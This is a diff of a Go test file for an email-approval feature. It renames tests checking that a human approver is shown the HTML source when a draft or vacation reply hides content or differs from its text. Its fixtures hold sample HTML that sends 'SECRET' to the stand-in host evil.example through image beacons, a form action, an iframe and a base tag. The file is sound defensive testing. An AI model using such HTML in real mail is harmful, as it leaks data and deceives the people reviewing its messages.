@@ -60,7 +60,7 @@ func leaves(t *testing.T, html string) map[string][]bundles.Line {
 	}
 }
 
-func TestTheSourceIsShownOfHTMLThatSaysMoreThanOneSees(t *testing.T) {
+func TestApprovalShowsSourceOfHTMLWithHiddenParts(t *testing.T) {
 	for _, html := range []string{
 		`<base href="http://evil.example/"><p>See you at noon.</p><!--[if mso]><p>SECRET</p><![endif]--><!-- SECRET --><style>.a:before{content:"SECRET"}</style><p class=a><a href="/x">notes</a></p>` +
 			`<img src="http://evil.example/p.gif?d=SECRET"><form action="http://evil.example/SECRET"><input name=v value="SECRET"><button>ok</button></form><iframe src="http://evil.example/SECRET"></iframe>`,
@@ -77,7 +77,7 @@ func TestTheSourceIsShownOfHTMLThatSaysMoreThanOneSees(t *testing.T) {
 	}
 }
 
-func TestOfPlainHTMLNoSourceIsShown(t *testing.T) {
+func TestApprovalOfPlainHTMLShowsNoSource(t *testing.T) {
 	const html = `<p>See you <b>at noon</b>:</p><ul><li>bring <a href="https://x.example/a">the notes</a></li></ul><table><tr><th>a</th><th>b</th></tr><tr><td>1</td><td>2</td></tr></table>`
 	for way, shown := range leaves(t, html) {
 		if named(shown, "HTML source") != "" || !strings.Contains(named(shown, "As HTML"), "See you **at noon**:\n\n- bring [the notes](https://x.example/a)") {
@@ -87,7 +87,7 @@ func TestOfPlainHTMLNoSourceIsShown(t *testing.T) {
 }
 
 // The HTML that KOTA makes from a text is not shown in addition.
-func TestAMailOfOneTextIsShownOnce(t *testing.T) {
+func TestApprovalShowsEqualTextAndHTMLOnce(t *testing.T) {
 	const body = "Hi Bob,\n\nsee **this**: https://x.example/a_b, or [that](https://x.example/c)\n\n1. one\n2. two\n\n> you said\n\n```\ncode\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n# The end"
 	d := newDesk(t)
 	received := d.ann.Deliver(fakegmail.Mail{From: "Bob <" + bob + ">", Subject: "Lunch", Text: "Noon?\n\n- here\n* there\n\n> # older\n>> oldest\n\nhttps://x.example"})
@@ -110,7 +110,7 @@ func TestAMailOfOneTextIsShownOnce(t *testing.T) {
 }
 
 // Words that differ in one character are different.
-func TestHTMLThatSaysOtherThanTheTextIsShown(t *testing.T) {
+func TestApprovalShowsHTMLThatDiffersFromText(t *testing.T) {
 	for text, html := range map[string]string{"Pay 5.00": "<p>Pay 500</p>", "It is < 5": "<p>It is &gt; 5</p>", "Hi": "<p>Hi 🔑🔑</p>", "-5 today": "<p>5 today</p>"} {
 		shown := newDesk(t).shownOf(t, "gmail_send_message", args{"to": []string{bob}, "subject": "x", "body": text, "html": html})
 		if named(shown, "As HTML") == "" {
@@ -119,7 +119,7 @@ func TestHTMLThatSaysOtherThanTheTextIsShown(t *testing.T) {
 	}
 }
 
-func TestAnAutomaticReplyThatIsSwitchedOnAgainIsShownWhole(t *testing.T) {
+func TestVacationApprovalShowsEarlierText(t *testing.T) {
 	d := newDesk(t)
 	off := &gmailapi.VacationSettings{ResponseSubject: "Away", ResponseBodyHtml: `<p>Back soon.</p><img src="http://evil.example/SECRET">`}
 	if _, err := d.elsewhere(t).Users.Settings.UpdateVacation("me", off).Do(); err != nil {
@@ -137,7 +137,7 @@ func TestAnAutomaticReplyThatIsSwitchedOnAgainIsShownWhole(t *testing.T) {
 
 // A draft of another program may have several texts, which mail programs show below each
 // other.
-func TestEveryTextOfADraftIsShown(t *testing.T) {
+func TestApprovalShowsEveryTextOfADraft(t *testing.T) {
 	d := newDesk(t)
 	part := func(kind, text string) string {
 		return "--x\r\nContent-Type: " + kind + "; charset=utf-8\r\n\r\n" + text + "\r\n"
